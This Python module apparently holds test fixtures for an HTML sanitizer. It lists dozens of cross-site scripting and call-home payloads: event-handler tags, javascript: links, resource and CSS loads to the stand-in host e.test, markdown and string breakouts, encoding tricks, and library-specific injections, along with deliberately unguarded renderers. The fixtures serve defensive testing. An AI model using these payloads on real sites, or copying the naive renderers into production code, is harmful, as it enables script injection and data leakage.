"""Markup that tries to run a script or to call home, each in many ways, and pages that let it.

`ran(NUM)` tells that a script ran, a request to e.test that something was opened; NUM says which one it was.
"""

from __future__ import annotations

import html
import json
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote

from markdown_it import MarkdownIt

__all__ = ["HOME", "VECTORS", "Vector"]

HOME = "e.test"
Page = Callable[[str], str]


@dataclass(frozen=True, kw_only=True)
class Vector:
    """`naive` is how a page without a guard would show it, None where that takes a library of Gradio's page;
    with `is_pressed` the user has to press the word "press"."""

    words: str
    naive: Page | None
    is_pressed: bool = False

    def numbered(self, number: int) -> str:
        return self.words.replace("NUM", str(number))


def inside(before: str, after: str) -> Page:
    return lambda words: f"{before}{words}{after}"


def as_markdown(words: str) -> str:
    reader = MarkdownIt("js-default", {"html": True})
    reader.validateLink = lambda address: True  # type: ignore[method-assign]
    return str(reader.render(words))


def as_string(words: str) -> str:
    """A server that writes words into a script, and the script into the page."""
    return f'<body><script>document.body.innerHTML = "{words}"</script></body>'


def twice(words: str) -> str:
    return html.unescape(words)


def filed(words: str) -> str:
    """A page that shows whatever file a value names."""
    return f'<img src="{json.loads(words)["path"]}">'


BODY = inside("<p>", "</p>")
ALT, ALT_OTHER = inside('<img alt="', '">'), inside("<img alt='", "'>")
SCRIPT, TEMPLATE = inside('<script>let said = "', '"</script>'), inside("<script>let said = `", "`</script>")

MARKUP = (
    "<script>ran(NUM)</script>",
    "<ScRiPt >ran(NUM)</sCrIpT>",
    "<script src=http://e.test/NUM></script>",
    "<img src=x onerror=ran(NUM)>",
    "<img/src='x'/onerror=ran(NUM)>",
    "<img src=x onerror=\tran&lpar;NUM&rpar;>",
    "<svg onload=ran(NUM)>",
    "<svg><script>ran(NUM)</script></svg>",
    "<svg><animate onbegin=ran(NUM) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran(NUM)</script>'></iframe>",
    "<iframe src='javascript:parent.ran(NUM)'></iframe>",
    "<iframe src='data:text/html,<script>ran(NUM)</script>'></iframe>",
    "<details open ontoggle=ran(NUM)>x</details>",
    "<input autofocus onfocus=ran(NUM)>",
    "<video><source src=x onerror=ran(NUM)></video>",
    "<audio src=x onerror=ran(NUM)>",
    "<body onload=ran(NUM)>",
    "<math><style><img src=x onerror=ran(NUM)></style></math>",
    "<svg><style><img src=x onerror=ran(NUM)></style></svg>",
    "<div><template shadowrootmode=open><img src=x onerror=ran(NUM)></template></div>",
    "<img src=http://e.test/NUM>",
    "<img srcset='http://e.test/NUM 1x'>",
    "<video poster=http://e.test/NUM></video>",
    "<svg><image href=http://e.test/NUM></svg>",
    "<object data=http://e.test/NUM></object>",
    "<embed src=http://e.test/NUM>",
    "<link rel=stylesheet href=http://e.test/NUM>",
    "<style>@import 'http://e.test/NUM';</style>",
    "<style>*{background:url(http://e.test/NUM)}</style>",
    "<b style='background:url(http://e.test/NUM)'>x</b>",
    "<table background=http://e.test/NUM><tr><td>x</table>",
    "<base href=http://e.test/NUM/><img src=x>",
    "<meta http-equiv=refresh content='0;url=http://e.test/NUM'>",
    "<script>new WebSocket('ws://e.test/NUM')</script>",
)
PRESSED = (
    "<a href='javascript:ran(NUM)'>press</a>",
    "<a href='java&#115;cript:ran(NUM)'>press</a>",
    "<form action='javascript:ran(NUM)'><button>press</button></form>",
    "<form><button formaction='javascript:ran(NUM)'>press</button>",
    "<svg><a xlink:href='javascript:ran(NUM)'><text y=20>press</text></a>",
)
MARKED_DOWN = (
    "![x](http://e.test/NUM)",
    "words\n\n<img src=x onerror=ran(NUM)>",
    "```html\nx\n```\n\n<svg onload=ran(NUM)>",
    "</div>\n\n![x](http://e.test/NUM)",
    "words\r\r![x](http://e.test/NUM)",
    "words\n \t\n![x](http://e.test/NUM)",
)
MARKED_DOWN_PRESSED = (
    "[press](javascript:ran(NUM))",
    "[press][a]\n\n[a]: javascript:ran(NUM)",
)
BREAKOUTS = (
    Vector(words='" onerror=ran(NUM) src=x x="', naive=ALT),
    Vector(words="' onerror=ran(NUM) src=x x='", naive=ALT_OTHER),
    Vector(words='"><svg onload=ran(NUM)>', naive=ALT),
    Vector(words="</title><script>ran(NUM)</script>", naive=inside("<title>", "</title>")),
    Vector(words="</textarea><svg onload=ran(NUM)>", naive=inside("<textarea>", "</textarea>")),
    Vector(words="--><svg onload=ran(NUM)>", naive=inside("<!--", "-->")),
    Vector(words="</script><script>ran(NUM)</script>", naive=SCRIPT),
    Vector(words='";ran(NUM);"', naive=SCRIPT),
    Vector(words="${ran(NUM)}", naive=TEMPLATE),
    Vector(words="&lt;svg onload=ran(NUM)&gt;", naive=twice),
    Vector(words="\\u003csvg onload=ran(NUM)\\u003e", naive=as_string),
    Vector(words="%3Csvg onload=ran(NUM)%3E", naive=unquote),
    Vector(words="＜svg onload=ran（NUM）＞", naive=lambda words: unicodedata.normalize("NFKC", words)),
    Vector(words='{"path": "http://e.test/NUM"}', naive=filed),
)
OF_LIBRARIES = (
    r"$$\href{javascript:ran(NUM)}{press}$$",
    r"$$\includegraphics{http://e.test/NUM}$$",
    r"$$\htmlStyle{background:url(http://e.test/NUM)}{x}$$",
    "```mermaid\ngraph TD; A-->B; click A call ran(NUM)\n```",
    '{{#with "x"}}{{{constructor}}}ran(NUM){{/with}}',
    '{"component": "html", "value": "<svg onload=ran(NUM)>"}',
)
VECTORS = (
    *(Vector(words=words, naive=BODY) for words in MARKUP),
    *(Vector(words=words, naive=BODY, is_pressed=True) for words in PRESSED),
    *(Vector(words=words, naive=as_markdown) for words in MARKED_DOWN),
    *(Vector(words=words, naive=as_markdown, is_pressed=True) for words in MARKED_DOWN_PRESSED),
    *BREAKOUTS,
    *(Vector(words=words, naive=None) for words in OF_LIBRARIES),
)
